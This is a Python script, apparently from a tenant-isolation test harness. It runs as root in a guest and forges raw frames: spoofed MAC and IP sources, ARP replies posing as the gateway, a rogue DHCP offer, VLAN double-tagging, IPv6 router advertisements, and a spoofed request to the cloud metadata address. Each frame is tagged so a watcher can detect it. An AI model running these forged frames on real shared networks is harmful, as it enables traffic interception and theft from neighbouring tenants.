"""Runs in a guest, as root: puts frames on its network that are not its own to send.

    attack.py DEVICE OWN-IP NEIGHBOUR-IP NEIGHBOUR-MAC GATEWAY-IP SEGMENT-OF-OTHERS

Each carries `attack:` and its name, by which `watch.py` knows it wherever it comes out. The first is an honest one.
"""

import socket
import struct
import sys

device, own_ip, neighbour_ip, neighbour_mac, gateway_ip, segment = sys.argv[1:]
own_mac = bytes.fromhex(open(f"/sys/class/net/{device}/address").read().strip().replace(":", ""))
neighbour_mac = bytes.fromhex(neighbour_mac.replace(":", ""))
nobody_mac = bytes.fromhex("02000a0b0c0d")
everybody = b"\xff" * 6


def address(text):
    return socket.inet_aton(text)


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(source, target, payload, protocol=17):
    parts = lambda check: struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, check,
                                      address(source), address(target))
    return parts(checksum(parts(0))) + payload


def udp(source_port, target_port, payload):
    return struct.pack("!HHHH", source_port, target_port, 8 + len(payload), 0) + payload


def frame(source, kind, payload, target=everybody):
    return target + source + struct.pack("!H", kind) + payload


def arp(operation, sender_mac, sender_ip, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, sender_mac, address(sender_ip), everybody,
                       address(target_ip))


def offer():
    head = struct.pack("!BBBBIHHIIII", 2, 1, 6, 0, 0x1234, 0, 0x8000, 0, 0, 0, 0)
    return head + neighbour_mac + bytes(202) + bytes.fromhex("63825363350102") + b"\xff"


def tag(kind, number):
    """What goes between the addresses and the rest of a frame."""
    return struct.pack("!HH", kind, number)


def asking(source, target, mark):
    return ip(source, target, udp(53, 53, mark))


in_vlan = tag(0x8100, int(segment))[2:] + struct.pack("!H", 0x0800)
# UDP, since the rules about connections would let nothing of a TCP that nobody began.
attacks = {
    "honest": lambda mark: frame(own_mac, 0x0800, asking(own_ip, gateway_ip, mark)),
    "mac-of-nobody": lambda mark: frame(nobody_mac, 0x0800, asking(own_ip, gateway_ip, mark)),
    "mac-of-neighbour": lambda mark: frame(neighbour_mac, 0x0800, asking(neighbour_ip, gateway_ip, mark)),
    "ip-of-neighbour": lambda mark: frame(own_mac, 0x0800, asking(neighbour_ip, gateway_ip, mark)),
    "ip-of-gateway": lambda mark: frame(own_mac, 0x0800, asking(gateway_ip, neighbour_ip, mark)),
    "ip-from-outside": lambda mark: frame(own_mac, 0x0800, asking("203.0.113.1", gateway_ip, mark)),
    "metadata-of-neighbour": lambda mark: frame(
        own_mac, 0x0800, ip(neighbour_ip, "169.254.169.254", udp(80, 80, mark))),
    "arp-as-gateway": lambda mark: frame(own_mac, 0x0806, arp(2, own_mac, gateway_ip, neighbour_ip) + mark),
    "arp-as-neighbour": lambda mark: frame(own_mac, 0x0806, arp(1, own_mac, neighbour_ip, gateway_ip) + mark),
    "arp-with-mac-of-neighbour": lambda mark: frame(
        own_mac, 0x0806, arp(2, neighbour_mac, own_ip, gateway_ip) + mark),
    "dhcp-server": lambda mark: frame(
        own_mac, 0x0800, ip(own_ip, "255.255.255.255", udp(67, 68, offer() + mark))),
    "vlan-of-others": lambda mark: frame(own_mac, 0x8100, in_vlan + asking(own_ip, gateway_ip, mark)),
    "vlan-in-vlan": lambda mark: frame(
        own_mac, 0x88A8, tag(0x88A8, 1)[2:] + struct.pack("!H", 0x8100) + in_vlan + asking(own_ip, gateway_ip, mark)),
    "ipv6-router": lambda mark: frame(
        own_mac, 0x86DD, struct.pack("!IHBB", 6 << 28, 8 + len(mark), 58, 255) + bytes(32) + b"\x86" + bytes(7) + mark),
    "spanning-tree": lambda mark: frame(
        own_mac, 3 + len(mark), b"\x42\x42\x03" + mark, bytes.fromhex("0180c2000000")),
    "lldp": lambda mark: frame(own_mac, 0x88CC, mark, bytes.fromhex("0180c200000e")),
    "mpls": lambda mark: frame(own_mac, 0x8847, b"\x00\x00\x01\x40" + mark),
}

out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
for name, forge in attacks.items():
    for _ in range(3):
        out.send(forge(f"attack:{name};".encode()))
print(" ".join(attacks))
